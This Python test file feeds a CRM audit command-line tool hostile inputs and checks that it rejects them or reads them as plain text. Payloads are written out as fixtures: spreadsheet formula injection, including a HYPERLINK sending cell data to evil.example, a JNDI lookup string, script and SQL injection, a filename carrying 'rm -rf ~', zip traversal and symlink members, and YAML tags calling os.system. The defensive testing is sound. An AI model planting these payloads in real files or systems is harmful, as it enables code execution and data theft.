"""Hostile cases not covered elsewhere (issue #14): each a real attack through the real CLI.

Every case builds what a hostile user, an unlucky export or a hostile environment would hand
crm-audit, runs the command a user would run, and checks what "handled" means for it:

- refused: the right exit code (2 config/usage, 3 input), one line on stderr naming the file,
  no traceback;
- read: every data row accounted for (rows read = ingested + rejected, and the rows we wrote
  are all read), values kept as text (a formula stays a value, never executed or dropped);
- always: the input file is byte-identical afterwards, nothing is written outside the output
  folder.

The case id starts with its class (files, config, environment, merge); `tests/hostile/table.py`
prints the table of all hostile cases by class, these and the ones kept in other test files
(`tests/hostile/registry.py`).
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner, Result

from audit.cli import cli

REPO = Path(__file__).resolve().parents[2]
FIXTURES = REPO / "tests" / "fixtures" / "sources"
HUBSPOT = FIXTURES / "hubspot.contacts" / "hubspot_contacts.csv"
GOOD = "name,email,phone\nAnn Lee,ann@example.com,+82 10 1234 5678\nBo Kim,bo@example.com,\n"


# --- what "handled" means, as checks ------------------------------------------------------


def _refused(res: Result, code: int, *fragments: str) -> None:
    """Exit `code`, one line on stderr saying what (each fragment), no traceback."""
    assert res.exit_code == code, (res.exit_code, res.output)
    text = res.output + res.stderr
    assert "Traceback" not in text and "internal error" not in text.lower(), text
    assert len(res.stderr.strip().splitlines()) == 1, res.stderr
    for f in fragments:
        assert f in res.stderr, (f, res.stderr)


def _accounted(res: Result, rows: int | None) -> list[dict]:
    """Read: exit 0, every row accounted for, and `rows` rows read when given."""
    assert res.exit_code == 0, res.output
    assert "Traceback" not in res.output + res.stderr
    tables = json.loads(res.stdout)
    for t in tables:
        assert t["rows_read"] == t["rows_ingested"] + t["rows_rejected"], t
    if rows is not None:
        assert sum(t["rows_read"] for t in tables) == rows, tables
    return tables


def _sha(path: Path) -> str:
    if path.is_file():
        return hashlib.sha256(path.read_bytes()).hexdigest()
    return ""


def _inspect(runner: CliRunner, *paths: Path | str, extra: tuple[str, ...] = ()) -> Result:
    return runner.invoke(
        cli, ["sources", "inspect", "--format", "json", *extra, *(os.fsdecode(p) for p in paths)]
    )


# --- the case table -----------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    id: str  # "<class>-<slug>"
    handled: str  # what a user would check
    run: Callable[[Path, CliRunner], None]


CASES: list[Case] = []


def case(cid: str, handled: str) -> Callable[[Callable[[Path, CliRunner], None]], None]:
    def add(fn: Callable[[Path, CliRunner], None]) -> None:
        assert cid.split("-")[0] in ("files", "config", "environment", "merge"), cid
        CASES.append(Case(cid, handled, fn))

    return add


def read_case(cid: str, name: str, data: bytes | Callable[[Path], None], rows: int | None):
    """A file that must be read with every row accounted for (and `rows` rows when known)."""

    def run(tmp: Path, runner: CliRunner) -> None:
        path = tmp / name
        if callable(data):
            data(path)
        else:
            path.write_bytes(data)
        before = _sha(path)
        _accounted(_inspect(runner, path), rows)
        assert _sha(path) == before

    CASES.append(Case(cid, f"read, {rows} rows accounted, input unchanged", run))


def refuse_case(cid: str, name: str, data: bytes | Callable[[Path], None], *fragments: str):
    """A file that cannot be read: exit 3, one line naming it, input unchanged."""

    def run(tmp: Path, runner: CliRunner) -> None:
        path = tmp / name
        if callable(data):
            data(path)
        else:
            path.write_bytes(data)
        before = _sha(path)
        _refused(_inspect(runner, path), 3, name, *fragments)
        assert _sha(path) == before

    CASES.append(Case(cid, "exit 3, one line naming the file, input unchanged", run))


# --- files: payloads, encodings, structure ------------------------------------------------

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE runs; --",
    "\x1b[2J\x1b[31mred",
    "\u202eevil.exe\u202dtxt.csv",
    "A\u0000B",
]
for k, payload in enumerate(PAYLOADS):
    cell = '"' + payload.replace('"', '""') + '"'
    plain = "".join(f"Person {i},q{k}_{i}@example.com,called back\n" for i in range(20))
    hostile = "".join(f"{cell},p{k}_{i}@example.com,{cell}\n" for i in range(3))
    body = "name,email,note\n" + plain[: len(plain) // 2] + hostile + plain[len(plain) // 2 :]
    read_case(f"files-payload-{k:02d}", "payload.csv", body.encode(), 23)

read_case(
    "files-utf16le-bom", "u16.csv", "\ufeff".encode("utf-16-le") + GOOD.encode("utf-16-le"), 2
)
read_case(
    "files-utf16be-bom", "u16be.csv", "\ufeff".encode("utf-16-be") + GOOD.encode("utf-16-be"), 2
)
read_case("files-utf8-bom-twice", "bom2.csv", ("\ufeff\ufeff" + GOOD).encode(), 2)
read_case(
    "files-cp949",
    "kr.csv",
    "이름,이메일\n김민준,mj@example.com\n이서연,sy@example.com\n".encode("cp949"),
    2,
)
read_case(
    "files-shift-jis", "jp.csv", "氏名,メール\n佐藤花子,hanako@example.com\n".encode("shift_jis"), 1
)
read_case("files-gb18030", "cn.csv", "姓名,邮箱\n王伟,wei@example.com\n".encode("gb18030"), 1)
read_case("files-latin1", "l1.csv", "name,email\nJosé Müller,jm@example.com\n".encode("latin-1"), 1)
refuse_case("files-mixed-line-ends", "le.csv", b"name,email\r\nA,a@x.io\nB,b@x.io\rC,c@x.io\r\n")
read_case("files-nul-inside", "nul.csv", b"name,email\nA\x00nn,a@x.io\nBo,b@x.io\n", 2)
read_case("files-no-final-newline", "nofinal.csv", b"name,email\nA,a@x.io\nB,b@x.io", 2)
read_case("files-duplicate-headers", "dup.csv", b"email,email,name\na@x.io,b@x.io,A\n", 1)
read_case("files-empty-header-cells", "eh.csv", b"name,,email,\nA,x,a@x.io,y\n", 1)
read_case("files-unbalanced-quote-at-end", "uq.csv", b'name,email\nA,a@x.io\n"B,b@x.io\n', None)
read_case("files-delimiter-only-rows", "delim.csv", b"name,email\n,,\nA,a@x.io\n,\n", None)
read_case(
    "files-ten-thousand-blank-lines",
    "blank.csv",
    b"name,email\n" + b"\n" * 10_000 + b"A,a@x.io\n",
    1,
)
read_case(
    "files-wide-5000-columns",
    "wide.csv",
    (",".join(["email"] + [f"c{i}" for i in range(5000)]) + "\n").encode()
    + (",".join(["a@x.io"] + ["v"] * 5000) + "\n").encode(),
    1,
)
read_case("files-quoted-newlines", "nl.csv", b'name,email,note\nA,a@x.io,"line1\nline2\n"\n', 1)
read_case("files-semicolon-decimal-comma", "semi.csv", b"name;email;amount\nA;a@x.io;1.234,56\n", 1)
read_case(
    "files-10mb-single-cell",
    "big.csv",
    b"name,email,note\nA,a@x.io," + b"y" * (10 << 20) + b"\n",
    1,
)
read_case("files-only-header", "hdr.csv", b"name,email,phone\n", 0)
read_case("files-crlf-in-header-names", "crlfh.csv", b'"na\r\nme","e\nmail"\r\nA,a@x.io\r\n', 1)
read_case("files-zero-width-chars", "zw.csv", "name,email\nA\u200b,a\u200d@x.io\n".encode(), 1)
read_case(
    "files-surrogate-escapes-json",
    "sur.json",
    b'[{"name": "\\ud800bad", "email": "a@x.io"}, {"name": "ok", "email": "b@x.io"}]',
    2,
)
read_case(
    "files-json-huge-integer",
    "bigint.json",
    b'[{"name": "A", "email": "a@x.io", "n": ' + b"9" * 5000 + b"}]",
    1,
)
read_case(
    "files-json-nan-infinity",
    "nan.json",
    b'[{"name": "A", "email": "a@x.io", "n": NaN, "m": -Infinity}]',
    1,
)
read_case("files-json-duplicate-keys", "dk.json", b'[{"email": "a@x.io", "email": "b@x.io"}]', 1)
read_case(
    "files-jsonl-one-broken-line",
    "b.jsonl",
    b'{"email": "a@x.io"}\n{"email": "b@x.io"\n{"email": "c@x.io"}\n',
    3,
)
read_case(
    "files-json-150-deep-under-limit",
    "deep.json",
    b'[{"email": "a@x.io", "x": ' + b"[" * 150 + b"]" * 150 + b"}]",
    1,
)
read_case(
    "files-vcard-begin-without-end",
    "v.vcf",
    b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:A\r\nEMAIL:a@x.io\r\n" * 2000,
    None,
)
read_case(
    "files-vcard-broken-quoted-printable",
    "qp.vcf",
    b"BEGIN:VCARD\r\nVERSION:2.1\r\nFN;ENCODING=QUOTED-PRINTABLE:=E2=8\r\n"
    b"EMAIL:a@x.io\r\nEND:VCARD\r\n",
    1,
)
read_case(
    "files-mbox-from-lines-in-body",
    "m.mbox",
    b"From a@x.io Mon Jan  1 00:00:00 2026\nFrom: A <a@x.io>\nTo: b@x.io\nSubject: hi\n\n"
    b">From the body, quoted\nFrom the body, unquoted line\n\n",
    None,
)
read_case("files-mbox-empty", "e.mbox", b"", 0)
read_case(
    "files-eml-bad-boundary",
    "bad.eml",
    b'From: A <a@x.io>\nTo: b@x.io\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="X"'
    b"\n\n--Y\nnot the boundary\n",
    None,
)
read_case(
    "files-eml-header-crlf-injection",
    "inj.eml",
    b"From: A <a@x.io>\r\nTo: b@x.io\r\nBcc: evil@x.io\r\n"
    b"Subject: =?utf-8?q?hi=0D=0ABcc:_x@y.z?=\r\n"
    b"\r\nbody\r\n",
    None,
)


def _eml_nested(path: Path) -> None:
    depth = 3000
    parts = [b"From: A <a@x.io>\nTo: b@x.io\nMIME-Version: 1.0\n"]
    for d in range(depth):
        parts.append(f'Content-Type: multipart/mixed; boundary="b{d}"\n\n--b{d}\n'.encode())
    parts.append(b"Content-Type: text/plain\n\nhello\n")
    for d in reversed(range(depth)):
        parts.append(f"--b{d}--\n".encode())
    path.write_bytes(b"".join(parts))


read_case("files-eml-mime-nested-3000-deep", "deep.eml", _eml_nested, None)


def _xlsx(path: Path, rows: list[list[object]]) -> None:
    wb = openpyxl.Workbook()
    for r in rows:
        wb.active.append(r)
    wb.save(path)


read_case(
    "files-xlsx-formula-cells",
    "f.xlsx",
    lambda p: _xlsx(
        p,
        [
            ["name", "email"],
            ['=HYPERLINK("http://evil.example","x")', "a@x.io"],
            ["=1+1", "b@x.io"],
        ],
    ),
    2,
)
read_case(
    "files-xlsx-only-header",
    "h.xlsx",
    lambda p: _xlsx(p, [["name", "email"]]),
    0,
)


def _zip(path: Path, members: dict[str, bytes], *, flag: int = 0) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            info = zipfile.ZipInfo(name)
            info.flag_bits |= flag
            zf.writestr(info, data)


def _zip_traversal(path: Path) -> None:
    _zip(path, {"../../escape.csv": GOOD.encode(), "/abs/evil.csv": GOOD.encode()})


def _zip_case_traversal(tmp: Path, runner: CliRunner) -> None:
    path = tmp / "sub" / "t.zip"
    path.parent.mkdir()
    _zip_traversal(path)
    tables = _accounted(_inspect(runner, path), None)
    notes = " ".join(w for t in tables for w in t["warnings"])
    read = sum(t["rows_read"] for t in tables)
    assert read == 4 or (read == 2 and "escape.csv" in notes), tables  # read, or listed
    assert sorted(p.name for p in tmp.rglob("*")) == ["sub", "t.zip"]  # nothing extracted


CASES.append(
    Case(
        "files-zip-path-traversal-members", "read in memory, nothing extracted", _zip_case_traversal
    )
)


def _zip_symlink(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as zf:
        info = zipfile.ZipInfo("link.csv")
        info.external_attr = (0o120777 << 16) | 0  # a symlink member pointing at /etc/passwd
        zf.writestr(info, "/etc/passwd")
        zf.writestr("real.csv", GOOD)


def _zip_symlink_case(tmp: Path, runner: CliRunner) -> None:
    path = tmp / "l.zip"
    _zip_symlink(path)
    res = _inspect(runner, path)
    tables = _accounted(res, None)
    text = json.dumps(tables)
    assert "root:" not in text  # /etc/passwd never read through the member
    assert sum(t["rows_read"] for t in tables if t["source_file"].endswith("real.csv")) == 2


CASES.append(
    Case("files-zip-symlink-member", "member not followed; other rows read", _zip_symlink_case)
)
read_case(
    "files-zip-duplicate-member-names",
    "dup.zip",
    lambda p: _zip(p, {"a.csv": GOOD.encode()}) or _zip_append(p, "a.csv", GOOD.encode()),
    4,
)


def _zip_append(path: Path, name: str, data: bytes) -> None:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name": the attack itself
        with zipfile.ZipFile(path, "a") as zf:
            zf.writestr(name, data)


read_case("files-zip-empty-archive", "empty.zip", lambda p: _zip(p, {}), 0)
read_case(
    "files-zip-nested-zip-listed",
    "outer.zip",
    lambda p: _zip(p, {"inner.zip": _zip_bytes({"x.csv": GOOD.encode()}), "y.csv": GOOD.encode()}),
    2,
)


def _zip_bytes(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for n, d in members.items():
            zf.writestr(n, d)
    return buf.getvalue()


read_case(
    "files-zip-cp437-member-name",
    "n.zip",
    lambda p: _zip(p, {"kunden-\u00fc.csv": GOOD.encode()}),
    2,
)
refuse_case(
    "files-zip-truncated",
    "trunc.zip",
    lambda p: p.write_bytes(_zip_bytes({"a.csv": GOOD.encode() * 100})[:60]),
)


def _encrypted_zip(tmp: Path, runner: CliRunner) -> None:
    """A zip whose member is password-protected (`zip -P`, as a cautious colleague sends it)."""
    if not shutil.which("zip"):
        pytest.skip("the zip command is not installed")
    (tmp / "a.csv").write_text(GOOD, encoding="utf-8")
    subprocess.run(["zip", "-q", "-P", "s3cret", "enc.zip", "a.csv"], cwd=tmp, check=True)
    (tmp / "a.csv").unlink()
    res = _inspect(runner, tmp / "enc.zip")
    assert "Traceback" not in res.output + res.stderr
    if res.exit_code == 3:  # refused in one line, naming the archive
        _refused(res, 3, "enc.zip")
    else:  # or the member listed as not read, with its reason
        tables = _accounted(res, 0)
        assert "a.csv" in " ".join(w for t in tables for w in t["warnings"]), tables


CASES.append(Case("files-zip-encrypted-member", "refused or listed, never a crash", _encrypted_zip))

refuse_case("files-binary-as-csv", "bin.csv", bytes(range(256)) * 40, "not a text file")
refuse_case(
    "files-xlsx-named-csv",
    "sheet.csv",
    lambda p: _xlsx(p, [["name", "email"], ["A", "a@x.io"]]),
)
refuse_case("files-text-named-xlsx", "plain.xlsx", GOOD.encode())
refuse_case("files-json-top-level-scalar", "s.json", b"42")
refuse_case("files-json-truncated", "t.json", b'[{"email": "a@x.io"}, {"ema')
refuse_case("files-pdf-named-csv", "doc.csv", b"%PDF-1.7\n" + bytes(range(256)) * 20)


# --- files: odd names (given on the command line, as a user would) -------------------------

NAMES = {
    "space-and-unicode": "Kunden Liste – März 2026.csv",
    "nfd-decomposed": "Mu\u0308ller.csv",
    "leading-dash": "-rf.csv",
    "glob-brackets": "export [1].csv",
    "glob-star-question": "what*is?this.csv",
    "emoji": "customers 😀.csv",
    "cjk": "고객목록_顧客.csv",
    "newline-in-name": "two\nlines.csv",
    "dots-only-stem": "...csv",
    "very-long-250": "x" * 246 + ".csv",
    "quote-and-semicolon": "a'b\";rm -rf ~.csv",
    "rtl-override": "\u202ecsv.exe.csv",
}
for slug, fname in NAMES.items():

    def _named(tmp: Path, runner: CliRunner, fname: str = fname) -> None:
        path = tmp / fname
        path.write_text(GOOD, encoding="utf-8")
        before = _sha(path)
        res = (
            runner.invoke(cli, ["sources", "inspect", "--format", "json", "--", str(path)])
            if fname.startswith("-")
            else _inspect(runner, path)
        )
        _accounted(res, 2)
        assert _sha(path) == before

    CASES.append(Case(f"files-name-{slug}", "read by its exact name, 2 rows, unchanged", _named))


def _non_utf8_name(tmp: Path, runner: CliRunner) -> None:
    raw = os.fsencode(tmp) + b"/caf\xe9-latin1.csv"
    with open(raw, "wb") as f:
        f.write(GOOD.encode())
    res = _inspect(runner, os.fsdecode(raw))
    assert res.exit_code in (0, 3), res.output
    assert "Traceback" not in res.output + res.stderr
    if res.exit_code == 0:
        _accounted(res, 2)


CASES.append(
    Case("files-name-non-utf8-bytes", "read, or one line exit 3; never a crash", _non_utf8_name)
)


# --- environment --------------------------------------------------------------------------


def _fifo(tmp: Path, runner: CliRunner) -> None:
    path = tmp / "pipe.csv"
    os.mkfifo(path)
    _refused(_inspect(runner, path), 3, "pipe.csv", "not a regular file")


def _socket(tmp: Path, runner: CliRunner) -> None:
    path = tmp / "s.csv"
    s = socket.socket(socket.AF_UNIX)
    try:
        s.bind(str(path))
        _refused(_inspect(runner, path), 3, "s.csv", "not a regular file")
    finally:
        s.close()


def _symlink_loop(tmp: Path, runner: CliRunner) -> None:
    (tmp / "a.csv").symlink_to(tmp / "b.csv")
    (tmp / "b.csv").symlink_to(tmp / "a.csv")
    res = _inspect(runner, tmp / "a.csv")
    assert res.exit_code == 3, res.output
    assert "Traceback" not in res.output + res.stderr
    assert "a.csv" in res.stderr and len(res.stderr.strip().splitlines()) == 1


def _dangling_symlink(tmp: Path, runner: CliRunner) -> None:
    (tmp / "gone.csv").symlink_to(tmp / "nowhere.csv")
    _refused(_inspect(runner, tmp / "gone.csv"), 3, "file not found")


def _folder_loop(tmp: Path, runner: CliRunner) -> None:
    root = tmp / "exports"
    (root / "sub").mkdir(parents=True)
    (root / "sub" / "c.csv").write_text(GOOD, encoding="utf-8")
    (root / "sub" / "loop").symlink_to(root, target_is_directory=True)
    _accounted(_inspect(runner, root), None)


def _folder_with_special_files(tmp: Path, runner: CliRunner) -> None:
    root = tmp / "exports"
    root.mkdir()
    (root / "c.csv").write_text(GOOD, encoding="utf-8")
    os.mkfifo(root / "pipe.csv")
    (root / "dangling.csv").symlink_to(root / "missing.csv")
    res = runner.invoke(cli, ["audit", str(root), "--out", str(tmp / "out")])
    assert res.exit_code == 0, res.output
    (run,) = [p for p in (tmp / "out").iterdir() if (p / "run.json").is_file()]
    assert "2 files" in res.output and "pipe.csv" in res.output  # the terminal says so
    issues = (run / "issues.csv").read_text(encoding="utf-8-sig")
    skipped = [ln for ln in issues.splitlines() if "source.file.skipped" in ln]
    assert any("pipe.csv: not a regular file" in ln for ln in skipped), skipped
    # the broken link is listed by the name it points to (the path is resolved)
    assert any(": a broken link; not read" in ln for ln in skipped), skipped


def _output_inside_sources(tmp: Path, runner: CliRunner) -> None:
    root = tmp / "exports"
    root.mkdir()
    (root / "c.csv").write_text(GOOD, encoding="utf-8")
    for _ in range(2):
        res = runner.invoke(cli, ["audit", str(root), "--out", str(root / "reports")])
        assert res.exit_code == 0, res.output
    runs = sorted(p for p in (root / "reports").iterdir() if (p / "run.json").is_file())
    doc = json.loads((runs[-1] / "run.json").read_text(encoding="utf-8"))
    assert "reports" not in json.dumps(doc.get("sources", doc.get("ingest", "")))


def _history_symlink_to_precious(tmp: Path, runner: CliRunner) -> None:
    precious = tmp / "precious.txt"
    precious.write_text("do not touch\n" * 100, encoding="utf-8")
    out = tmp / "out"
    out.mkdir()
    (out / "history.sqlite").symlink_to(precious)
    (out / "decisions.sqlite").symlink_to(precious)
    res = runner.invoke(cli, ["audit", str(HUBSPOT), "--out", str(out)])
    assert res.exit_code == 0, res.output
    assert "Traceback" not in res.output
    assert precious.read_text(encoding="utf-8") == "do not touch\n" * 100


def _history_not_a_file(tmp: Path, runner: CliRunner) -> None:
    """history.path set to a device or pipe (`/dev/null` to switch it off): never opened, never
    renamed. A pipe stands in for /dev/null here: renaming /dev/null as root (as a corrupt
    history is moved aside) would replace the machine's /dev/null with a plain file."""
    pipe = tmp / "history.fifo"
    os.mkfifo(pipe)
    cfg = tmp / "c.yaml"
    cfg.write_text(
        f"sources:\n  - {{name: s, path: '{HUBSPOT}'}}\nhistory: {{path: '{pipe}'}}\n",
        encoding="utf-8",
    )
    res = runner.invoke(cli, ["audit", str(cfg), "--out", str(tmp / "out")])
    assert res.exit_code == 0, res.output
    assert "Traceback" not in res.output
    assert "not a file" in res.output
    assert pipe.is_fifo() and not list(tmp.glob("history.fifo.corrupt-*"))


def _closed_stdout_pipe(tmp: Path, runner: CliRunner) -> None:
    """`crm-audit sources inspect big.csv | head -1`: the reader of stdout goes away."""
    path = tmp / "c.csv"
    path.write_text(GOOD, encoding="utf-8")
    env = dict(os.environ, PYTHONPATH=str(REPO))
    code = (
        "import sys; from audit.cli import cli; "
        "sys.argv = ['crm-audit', 'sources', 'inspect', sys.argv[1]]; cli()"
    )
    p = subprocess.Popen(
        [sys.executable, "-c", code, str(path)],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert p.stdout is not None and p.stderr is not None
    p.stdout.close()  # as `| head -0` would
    err = p.stderr.read().decode(errors="replace")
    p.wait(timeout=120)
    assert "Traceback" not in err, err
    assert p.returncode in (0, 1, 3, 120, 141, -13), (p.returncode, err)


def _tmpdir_unwritable(tmp: Path, runner: CliRunner) -> None:
    old = os.environ.get("TMPDIR")
    os.environ["TMPDIR"] = str(tmp / "no-such-tmp")
    import tempfile

    tempfile.tempdir = None
    try:
        res = runner.invoke(cli, ["audit", str(HUBSPOT), "--out", str(tmp / "out")])
    finally:
        if old is None:
            os.environ.pop("TMPDIR", None)
        else:
            os.environ["TMPDIR"] = old
        tempfile.tempdir = None
    assert "Traceback" not in res.output
    assert res.exit_code in (0, 3), res.output
    if res.exit_code == 3:
        assert len(res.stderr.strip().splitlines()) == 1


def _output_is_symlink_to_file(tmp: Path, runner: CliRunner) -> None:
    target = tmp / "file.txt"
    target.write_text("mine\n", encoding="utf-8")
    (tmp / "out").symlink_to(target)
    res = runner.invoke(cli, ["audit", str(HUBSPOT), "--out", str(tmp / "out")])
    assert res.exit_code == 2, res.output  # a usage error: click names the option
    assert "Traceback" not in res.output + res.stderr
    assert "'--out'" in res.stderr and "is a file" in res.stderr
    assert target.read_text(encoding="utf-8") == "mine\n"


for cid, fn, handled in [
    ("environment-fifo-as-source", _fifo, "exit 3 'not a regular file', never blocks"),
    ("environment-socket-as-source", _socket, "exit 3 'not a regular file'"),
    ("environment-symlink-loop", _symlink_loop, "exit 3, one line"),
    ("environment-dangling-symlink", _dangling_symlink, "exit 3, one line"),
    ("environment-folder-symlink-loop", _folder_loop, "read once, no endless walk"),
    (
        "environment-pipe-and-dangling-link-in-folder",
        _folder_with_special_files,
        "the rest read; each listed in ingest.csv",
    ),
    ("environment-output-inside-sources", _output_inside_sources, "own reports never re-read"),
    (
        "environment-history-and-store-symlinked-to-a-file",
        _history_symlink_to_precious,
        "audit exit 0; the file they point to unchanged",
    ),
    ("environment-history-is-a-pipe", _history_not_a_file, "exit 0, a warning, never renamed"),
    ("environment-stdout-closed", _closed_stdout_pipe, "no traceback when the reader leaves"),
    ("environment-tmpdir-missing", _tmpdir_unwritable, "runs or one line, no traceback"),
    (
        "environment-output-symlink-to-a-file",
        _output_is_symlink_to_file,
        "one line exit 2/3, the file unchanged",
    ),
]:
    CASES.append(Case(cid, handled, fn))


# --- config -------------------------------------------------------------------------------

HEAD = "version: 1\nas_of: 2026-10-31\nsources:\n  - name: s\n    path: c.csv\n"

CONFIGS: list[tuple[str, str | bytes, str]] = [
    ("empty-file", "", "c.yaml"),
    ("a-list-not-a-mapping", "- a\n- b\n", "c.yaml"),
    ("not-utf8", b"sources:\n  - name: \xff\xfe\xfa\n", "UTF-8"),
    ("binary-garbage", bytes(range(256)) * 4, "UTF-8"),
    ("python-object-tag", "!!python/object/apply:os.system ['touch pwned']\n", "c.yaml"),
    ("python-name-tag-in-value", HEAD + "output:\n  dir: !!python/name:os.system\n", "c.yaml"),
    ("tab-indentation", "sources:\n\t- name: s\n", "c.yaml"),
    ("no-sources", "version: 1\nsources: []\n", "sources"),
    ("source-path-empty", "version: 1\nsources:\n  - {name: s, path: ''}\n", "path"),
    ("version-99", HEAD.replace("version: 1", "version: 99"), "version"),
    ("as-of-not-a-date", HEAD.replace("2026-10-31", "yesterday"), "as_of"),
    ("threshold-nan", HEAD + "thresholds:\n  overall: .nan\n", "thresholds.overall"),
    ("threshold-infinite", HEAD + "thresholds:\n  overall: .inf\n", "thresholds.overall"),
    ("threshold-a-word", HEAD + "thresholds:\n  overall: high\n", "thresholds.overall"),
    ("limit-negative", HEAD + "limits:\n  max_members: -1\n", "limits.max_members"),
    ("limit-nan", HEAD + "limits:\n  max_unpacked_mb: .nan\n", "limits.max_unpacked_mb"),
    ("unknown-output-format", HEAD + "output:\n  formats: [exe]\n", "exe"),
    ("encoding-unknown", HEAD + "    encoding: rot-99\n", "rot-99"),
    ("duplicate-source-names", HEAD + "  - name: s\n    path: c.csv\n", "s"),
    ("source-name-with-slash", HEAD.replace("name: s", "name: ../../etc"), "name"),
    ("huge-config-10mb", HEAD + "# " + "x" * (10 << 20) + "\n", "more than a config can be"),
]
for slug, text, fragment in CONFIGS:

    def _config(tmp: Path, runner: CliRunner, text=text, fragment=fragment) -> None:
        (tmp / "c.csv").write_text(GOOD, encoding="utf-8")
        cfg = tmp / "c.yaml"
        if isinstance(text, bytes):
            cfg.write_bytes(text)
        else:
            cfg.write_text(text, encoding="utf-8")
        res = runner.invoke(cli, ["run", str(cfg)], catch_exceptions=True)
        # a config that is not UTF-8 text is unreadable input (3); any other mistake is 2
        _refused(res, 3 if fragment == "UTF-8" else 2, fragment)
        assert not (tmp / "reports").exists()  # refused before any work
        assert not (tmp / "pwned").exists() and not Path("pwned").exists()

    CASES.append(Case(f"config-{slug}", "exit 2, one line naming what to fix, no output", _config))


def _config_is_folder(tmp: Path, runner: CliRunner) -> None:
    (tmp / "c.yaml").mkdir()
    _refused(runner.invoke(cli, ["run", str(tmp / "c.yaml")]), 2, "c.yaml")


def _config_is_device(tmp: Path, runner: CliRunner) -> None:
    # not a .yaml name, so taken for an export to audit: refused as input, never read
    _refused(runner.invoke(cli, ["run", "/dev/zero"]), 3, "/dev/zero", "not a regular file")


def _yaml_named_device(tmp: Path, runner: CliRunner) -> None:
    (tmp / "c.yaml").symlink_to("/dev/zero")
    _refused(runner.invoke(cli, ["run", str(tmp / "c.yaml")]), 2, "c.yaml", "not a config file")


def _config_is_fifo(tmp: Path, runner: CliRunner) -> None:
    os.mkfifo(tmp / "c.yaml")
    _refused(runner.invoke(cli, ["run", str(tmp / "c.yaml")]), 2, "c.yaml", "not a config file")


CASES.append(Case("config-path-is-a-folder", "exit 2, one line", _config_is_folder))
CASES.append(
    Case("config-path-is-dev-zero", "exit 2 at once, never read forever", _config_is_device)
)
CASES.append(Case("config-path-is-a-fifo", "exit 2 at once, never blocks", _config_is_fifo))
CASES.append(Case("config-yaml-link-to-dev-zero", "exit 2 at once, never read", _yaml_named_device))


# --- merge inputs: decisions files a reviewer (or an attacker) hands `merge apply` ----------


@pytest.fixture(scope="module")
def merge_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One audited run with clusters (the vendor fixtures: the same people in four exports)."""
    tmp = tmp_path_factory.mktemp("merge")
    cfg = tmp / "cfg.yaml"
    lines = ["sources:"]
    for name, rel in {
        "hubspot": "hubspot.contacts/hubspot_contacts.csv",
        "sfdc": "salesforce.contacts/salesforce_contacts.csv",
        "google": "google.contacts/google_contacts.csv",
        "outlook": "outlook.contacts/outlook_contacts.csv",
    }.items():
        lines.append(f"  - {{name: {name}, path: '{FIXTURES / rel}', phone_region: KR}}")
    lines += ['as_of: "2026-01-31"', "rules: {gx: false}", "output: {formats: []}"]
    cfg.write_text("\n".join(lines) + "\n", encoding="utf-8")
    res = CliRunner().invoke(cli, ["audit", str(cfg), "--out", str(tmp / "runs")])
    assert res.exit_code == 0, res.output
    (run,) = [p for p in (tmp / "runs").iterdir() if (p / "run.json").is_file()]
    return run


def _clusters(run: Path) -> list[str]:
    lines = (run / "clusters.csv").read_text(encoding="utf-8-sig").splitlines()[1:]
    return sorted({ln.split(",")[0] for ln in lines})


MERGE_CASES: list[tuple[str, str, Callable[[Path, list[str]], bytes], int, str]] = [
    (
        "formula-in-decision",
        "d.csv",
        lambda run, c: f"cluster_id,decision\n{c[0]},=cmd|' /C calc'!A0\n".encode(),
        2,
        "decision",
    ),
    (
        "unknown-decision-word",
        "d.csv",
        lambda run, c: f"cluster_id,decision\n{c[0]},maybe\n".encode(),
        2,
        "maybe",
    ),
    ("json-a-list", "d.json", lambda run, c: b"[1, 2, 3]", 2, "d.json"),
    ("json-a-scalar", "d.json", lambda run, c: b'"approve everything"', 2, "d.json"),
    # unreadable files are unreadable input (3); readable ones that say the wrong thing are 2
    ("binary-garbage-csv", "d.csv", lambda run, c: bytes(range(256)) * 8, 3, "d.csv"),
    ("truncated-xlsx", "d.xlsx", lambda run, c: b"PK\x03\x04" + b"\0" * 40, 3, "d.xlsx"),
    (
        "wrong-suffix",
        "d.exe",
        lambda run, c: b"cluster_id,decision\n",
        2,
        ".json, .csv, .xlsx or .parquet",
    ),
    (
        "for-another-run",
        "d.json",
        lambda run, c: json.dumps(
            {
                "run_id": "20200101T000000-000000-000000",
                "decisions": [{"cluster_id": c[0], "decision": "approve"}],
            }
        ).encode(),
        2,
        "20200101T000000-000000-000000",
    ),
    (
        "split-off-a-stranger",
        "d.csv",
        lambda run, c: f"cluster_id,decision,split_off\n{c[0]},split,evil:999\n".encode(),
        2,
        "evil:999",
    ),
]


def _merge_input_case(cid: str, name: str, make, code: int, fragment: str) -> Case:
    def run(tmp: Path, runner: CliRunner, run_dir: Path) -> None:
        dec = tmp / name
        dec.write_bytes(make(run_dir, _clusters(run_dir)))
        records = _sha(run_dir / "records" / "contacts.csv")
        before = _sha(dec)
        res = runner.invoke(cli, ["merge", "apply", str(run_dir), "--decisions", str(dec)])
        _refused(res, code, fragment)
        assert _sha(dec) == before and _sha(run_dir / "records" / "contacts.csv") == records
        assert not (run_dir / "merged" / "merge_log.json").exists()  # nothing applied

    return Case(f"merge-{cid}", f"exit {code}, one line, nothing applied", run)  # type: ignore[arg-type]


MERGES = [_merge_input_case(*m) for m in MERGE_CASES]


